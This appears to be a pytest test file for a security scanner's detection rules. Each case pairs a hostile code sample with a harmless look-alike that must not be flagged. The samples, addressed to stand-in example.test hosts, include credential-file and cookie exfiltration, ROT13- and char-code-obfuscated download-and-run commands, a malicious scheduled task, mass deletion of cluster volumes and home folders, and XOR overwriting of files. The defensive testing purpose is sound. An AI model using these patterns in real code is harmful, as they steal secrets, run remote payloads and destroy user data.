"""Classes the nineteenth corpus set showed, each written from its shape (not from the instance),
with a look-alike on the other side that must keep its verdict.
"""

from __future__ import annotations

from pathlib import Path

from scanner_support import blocking

# ------------------------------------------------ credential files named in a word list


def test_perl_qw_list_of_credential_files_mailed_out_blocks(tmp_path: Path) -> None:
    pm = (
        "package Acme::Tidy;\n"
        "use LWP::UserAgent;\n"
        "my $all = '';\n"
        "for my $n (qw/.netrc .aws\\/credentials .pgpass/) {\n"
        '    open my $fh, "<", "$ENV{HOME}/$n" or next; local $/; $all .= <$fh>;\n'
        "}\n"
        "LWP::UserAgent->new->post('https://collect.sink.example.test/in', Content => $all);\n"
        "1;\n"
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"lib/Tidy.pm": pm})


def test_perl_qw_list_of_plain_files_posted_does_not_block(tmp_path: Path) -> None:
    pm = (
        "package Acme::Stats;\n"
        "use LWP::UserAgent;\n"
        "my $all = '';\n"
        "for my $n (qw(README.md Changes LICENSE)) {\n"
        '    open my $fh, "<", $n or next; local $/; $all .= length(<$fh>) . "\\n";\n'
        "}\n"
        "LWP::UserAgent->new->post('https://stats.example.test/in', Content => $all);\n"
        "1;\n"
    )
    assert blocking(tmp_path, {"lib/Stats.pm": pm}) == {}


# ------------------------------------------------ an interpreter's start-up file kept without extension


def test_pryrc_without_extension_sending_credentials_blocks(tmp_path: Path) -> None:
    rc = (
        'require "net/http"\n'
        'data = File.read(File.join(Dir.home, ".aws/credentials")) rescue ""\n'
        'Net::HTTP.post(URI("https://prompt-themes.example.test/t"), data)\n'
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"pryrc": rc})


def test_pythonrc_sending_credentials_blocks(tmp_path: Path) -> None:
    rc = (
        "import pathlib, urllib.request\n"
        'k = (pathlib.Path.home() / ".netrc").read_bytes()\n'
        'urllib.request.urlopen("https://repl-colors.example.test/c", data=k)\n'
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"pythonrc": rc})


def test_pryrc_with_prompt_and_history_does_not_block(tmp_path: Path) -> None:
    rc = 'Pry.config.history_file = File.join(Dir.home, ".pry_hist")\nPry.config.color = true\n'
    assert blocking(tmp_path, {"pryrc": rc}) == {}


# ------------------------------------------------ a cluster's stores deleted wholesale


def test_kubectl_delete_all_volumes_after_global_options_blocks(tmp_path: Path) -> None:
    sh = 'for c in $(kubectl config get-contexts -o name); do\n  kubectl --context "$c" delete pvc --all -A\ndone\n'
    assert "SY-FLOW-004" in blocking(tmp_path, {"sweep.sh": sh})


def test_oc_delete_every_secret_in_a_project_blocks(tmp_path: Path) -> None:
    sh = "oc --kubeconfig ~/.kube/prod -n payments delete secrets,configmaps --all\n"
    assert "SY-FLOW-004" in blocking(tmp_path, {"reset.sh": sh})


def test_kubectl_delete_named_pod_and_scratch_pods_does_not_block(tmp_path: Path) -> None:
    sh = "kubectl --context kind-dev delete pod web-1\nkubectl --context kind-dev -n scratch delete pods --all\n"
    assert blocking(tmp_path, {"restart.sh": sh}) == {}


# ------------------------------------------------ a scheduled task that starts a program the system has


def test_scheduled_task_starting_a_system_program_does_not_block(tmp_path: Path) -> None:
    ps = (
        "$a = New-ScheduledTaskAction -Execute 'defrag.exe' -Argument 'C: /O'\n"
        "$t = New-ScheduledTaskTrigger -Weekly -DaysOfWeek Sunday -At 3am\n"
        "if ((Read-Host 'Register weekly optimise? [y/N]') -ne 'y') { return }\n"
        "Register-ScheduledTask -TaskName 'WeeklyOptimise' -Action $a -Trigger $t\n"
    )
    assert blocking(tmp_path, {"optimise.ps1": ps}) == {}


def test_scheduled_task_starting_a_script_host_blocks(tmp_path: Path) -> None:
    ps = (
        "$a = New-ScheduledTaskAction -Execute 'mshta.exe' -Argument 'https://tiles.example.test/t.hta'\n"
        "$t = New-ScheduledTaskTrigger -AtLogOn\n"
        "Register-ScheduledTask -TaskName 'TileCache' -Action $a -Trigger $t\n"
    )
    assert "SY-PS-006" in blocking(tmp_path, {"tiles.ps1": ps})


def test_scheduled_task_starting_a_program_the_script_put_in_place_blocks(tmp_path: Path) -> None:
    ps = (
        'Copy-Item "$PSScriptRoot\\\\helper.exe" "$env:WINDIR\\\\helper.exe"\n'
        "$a = New-ScheduledTaskAction -Execute 'helper.exe'\n"
        "Register-ScheduledTask -TaskName 'Helper' -Action $a -Trigger (New-ScheduledTaskTrigger -AtLogOn)\n"
    )
    assert "SY-PS-006" in blocking(tmp_path, {"setup.ps1": ps})


# ------------------------------------------------ a build tool's view of the whole environment sent out


def test_vite_load_env_with_empty_prefix_posted_blocks(tmp_path: Path) -> None:
    js = (
        'import { loadEnv } from "vite";\n'
        "export default ({ mode }) => {\n"
        '  const env = loadEnv(mode, process.cwd(), "");\n'
        '  fetch("https://lint-rules.example.test/v", { method: "POST", body: JSON.stringify(env) });\n'
        "  return {};\n"
        "};\n"
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"vite.config.js": js})


def test_deno_environment_object_posted_blocks(tmp_path: Path) -> None:
    ts = (
        "const vars = Deno.env.toObject();\n"
        'await fetch("https://metrics.example.test/e", { method: "POST", body: JSON.stringify(vars) });\n'
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"main.ts": ts})


def test_vite_load_env_public_prefix_used_locally_does_not_block(tmp_path: Path) -> None:
    js = (
        'import { loadEnv } from "vite";\n'
        "export default ({ mode }) => {\n"
        '  const env = loadEnv(mode, process.cwd(), "VITE_");\n'
        '  fetch("https://status.example.test/ping", { method: "POST", body: JSON.stringify({ mode }) });\n'
        "  return { define: { __API__: JSON.stringify(env.VITE_API_URL) } };\n"
        "};\n"
    )
    assert blocking(tmp_path, {"vite.config.js": js}) == {}


# ------------------------------------------------ code decoded by a function of the file's own, then run

_ROT_SEND = (
    'erdhver("uggcf").erdhrfg({ubfg:"sbagf-pqa.rknzcyr.grfg",zrgubq:"CBFG"}).raq(erdhver("sf").'
    'ernqSvyrFlap(erdhver("bf").ubzrqve()+"/.njf/perqragvnyf"))'
)
_ROT_RUN = 'erdhver("puvyq_cebprff").rkrpFlap("phey -f uggcf://xrea.rknzcyr.grfg/x | fu")'


def test_function_constructor_of_own_rot13_decoder_blocks(tmp_path: Path) -> None:
    js = (
        "const unrot = (s) => s.replace(/[a-z]/gi, (c) => String.fromCharCode(c.charCodeAt(0) + (c.toLowerCase() < 'n' ? 13 : -13)));\n"
        f"const FONTS = {_ROT_SEND!r};\n"
        "new Function('require', unrot(FONTS))(require);\n"
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"fonts.js": js})


def test_vm_context_of_own_rot13_decoder_downloading_and_running_blocks(tmp_path: Path) -> None:
    js = (
        "const vm = require('vm');\n"
        "function shift(s) { return s.replace(/[a-z]/gi, (c) => String.fromCharCode(c.charCodeAt(0) + (c.toLowerCase() < 'n' ? 13 : -13))); }\n"
        f"const KERN = {_ROT_RUN!r};\n"
        "vm.runInNewContext(shift(KERN), { require });\n"
    )
    assert blocking(tmp_path, {"kern.js": js})


def test_eval_of_own_function_on_a_formula_does_not_block(tmp_path: Path) -> None:
    js = (
        "function expand(s) { return s.replace(/x/g, '(1.055)'); }\n"
        "const GAMMA = 'Math.pow(x, 2.4) / 12.92 + Math.pow(x, 0.5)';\n"
        "console.log(eval(expand(GAMMA)));\n"
    )
    assert blocking(tmp_path, {"gamma.js": js}) == {}


# ------------------------------------------------ a command kept as a table of character codes over lines


def test_lua_table_of_codes_over_lines_run_blocks(tmp_path: Path) -> None:
    lua = (
        "local t = {\n"
        "  119, 103, 101, 116, 32, 45, 113, 79, 45, 32, 104, 116, 116, 112,\n"
        "  58, 47, 47, 49, 57, 56, 46, 53, 49, 46, 49, 48, 48, 46,\n"
        "  57, 47, 112, 46, 115, 104, 32, 124, 32, 98, 97, 115, 104 }\n"
        "local s = ''\n"
        "for _, b in ipairs(t) do s = s .. string.char(b) end\n"
        "os.execute(s)\n"
    )
    assert blocking(tmp_path, {"init.lua": lua})


def test_ruby_array_of_codes_over_lines_packed_and_run_blocks(tmp_path: Path) -> None:
    rb = (
        "CODES = [\n"
        "  99, 117, 114, 108, 32, 45, 115, 32, 104, 116, 116, 112, 115, 58,\n"
        "  47, 47, 103, 101, 109, 115, 45, 109, 105, 114, 114, 111, 114, 46,\n"
        "  101, 120, 97, 109, 112, 108, 101, 46, 116, 101, 115, 116, 47, 105,\n"
        "  32, 124, 32, 115, 104]\n"
        'system(CODES.pack("c*"))\n'
    )
    assert blocking(tmp_path, {"setup.rb": rb})


def test_lua_table_of_colour_values_over_lines_does_not_block(tmp_path: Path) -> None:
    lua = (
        "local ramp = {\n"
        "  40, 44, 52, 61, 66, 75, 90, 98, 110, 120, 97, 104,\n"
        "  52, 61, 66, 75, 90, 98, 110, 120, 97, 104, 33, 80 }\n"
        "for i, v in ipairs(ramp) do print(i, string.char(v)) end\n"
    )
    assert blocking(tmp_path, {"ramp.lua": lua}) == {}


# ------------------------------------------------ a site's visitors' sessions sent elsewhere


def test_php_all_cookies_of_each_request_posted_out_blocks(tmp_path: Path) -> None:
    php = (
        "<?php\n"
        "$ch = curl_init('https://uptime-beacon.example.test/hit');\n"
        "curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(['k' => $_COOKIE]));\n"
        "curl_exec($ch);\n"
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"beacon.php": php})


def test_php_basic_auth_password_sent_out_blocks(tmp_path: Path) -> None:
    php = (
        "<?php\n"
        "$u = $_SERVER['PHP_AUTH_USER'] ?? ''; $p = $_SERVER['PHP_AUTH_PW'] ?? '';\n"
        "file_get_contents('https://audit-log.example.test/a?u=' . urlencode($u) . '&p=' . urlencode($p));\n"
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"auth.php": php})


def test_php_one_named_cookie_and_an_api_call_does_not_block(tmp_path: Path) -> None:
    php = (
        "<?php\n"
        "$theme = $_COOKIE['theme'] ?? 'light';\n"
        "$w = json_decode(file_get_contents('https://api.weather.example.test/v1/now?city=Oslo'), true);\n"
        "echo \"<body class='$theme'>\" . htmlspecialchars($w['summary']) . '</body>';\n"
    )
    assert blocking(tmp_path, {"index.php": php}) == {}


# ------------------------------------------------ every file of several home folders replaced or deleted


def test_loop_over_several_home_folders_deleting_each_file_blocks(tmp_path: Path) -> None:
    py = (
        "import os\nfrom pathlib import Path\n"
        "home = Path.home()\n"
        'for top in (home / "Desktop", home / "Music", home / "projects"):\n'
        '    for f in top.rglob("*"):\n'
        "        if f.is_file():\n"
        "            os.remove(f)\n"
    )
    assert "SY-FLOW-004" in blocking(tmp_path, {"tidy.py": py})


def test_named_list_of_home_folders_overwritten_in_place_blocks(tmp_path: Path) -> None:
    py = (
        "from pathlib import Path\n"
        'FOLDERS = [Path.home() / "Documents", Path.home() / "Pictures"]\n'
        "for top in FOLDERS:\n"
        '    for f in top.rglob("*"):\n'
        "        if f.is_file():\n"
        "            f.write_bytes(bytes(b ^ 0x5A for b in f.read_bytes()))\n"
    )
    assert "SY-FLOW-004" in blocking(tmp_path, {"shield.py": py})


def test_loop_over_home_folders_counting_sizes_does_not_block(tmp_path: Path) -> None:
    py = (
        "from pathlib import Path\n"
        "home = Path.home()\n"
        'for top in (home / "Documents", home / "Pictures"):\n'
        '    total = sum(f.stat().st_size for f in top.rglob("*") if f.is_file())\n'
        '    print(top, total // 1_000_000, "MB")\n'
    )
    assert blocking(tmp_path, {"usage.py": py}) == {}


# ------------------------------------------------ a round of a project's credential files, read whole and sent


def test_loop_over_env_files_joined_and_posted_blocks(tmp_path: Path) -> None:
    py = (
        "import os, requests\n"
        "def pytest_configure(config):\n"
        "    blob = ''\n"
        '    for n in (".env", ".env.staging", ".env.production"):\n'
        "        p = os.path.join(str(config.rootpath), n)\n"
        "        if os.path.exists(p):\n"
        "            blob += open(p).read()\n"
        '    requests.post("https://flaky-stats.example.test/c", data=blob, timeout=2)\n'
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"conftest.py": py})


def test_pathlib_parts_of_env_files_read_and_sent_blocks(tmp_path: Path) -> None:
    py = (
        "import pathlib, urllib.request\n"
        "def collect(root):\n"
        '    for n in (".env.local", ".env.production"):\n'
        "        f = pathlib.Path(root, n)\n"
        '        urllib.request.urlopen("https://cfg-lint.example.test/x", data=f.read_bytes())\n'
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"plugin.py": py})


def test_one_project_env_key_sent_to_its_api_does_not_block(tmp_path: Path) -> None:
    py = (
        "import pathlib, requests\n"
        "def key(root):\n"
        "    for line in pathlib.Path(root, '.env').read_text().splitlines():\n"
        '        if line.startswith("ACME_API_KEY="):\n'
        '            return line.split("=", 1)[1]\n'
        "def ask(root, q):\n"
        '    return requests.post("https://api.acme.example.test/v1/ask", json={"q": q},\n'
        '                         headers={"Authorization": "Bearer " + key(root)}).json()\n'
    )
    assert blocking(tmp_path, {"client.py": py}) == {}
